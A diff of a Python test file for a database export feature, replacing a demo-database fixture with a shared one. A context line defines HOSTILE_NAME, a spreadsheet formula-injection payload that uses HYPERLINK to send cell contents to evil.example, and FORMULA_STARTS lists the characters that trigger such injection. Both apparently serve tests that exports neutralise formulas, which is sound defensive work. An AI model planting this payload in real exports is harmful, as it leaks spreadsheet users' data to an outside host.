@@ -3,7 +3,6 @@ row per pilot, the workbook a sheet per table with every row, and a backup
 is a complete database that carries on where the original stands."""
 
 import csv
-import shutil
 import subprocess
 import sys
 import time
@@ -22,18 +21,9 @@ HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
-@pytest.fixture(scope="module")
-def demo_template(tmp_path_factory):
-    path = tmp_path_factory.mktemp("export-demo") / "demo.duckdb"
-    demo.build_demo(path, AS_OF)
-    return path
-
-
 @pytest.fixture
-def demo_db(demo_template, tmp_path):
-    path = tmp_path / "demo.duckdb"
-    shutil.copyfile(demo_template, path)
-    return path
+def demo_db(fixed_demo_db):
+    return fixed_demo_db
 
 
 @pytest.fixture
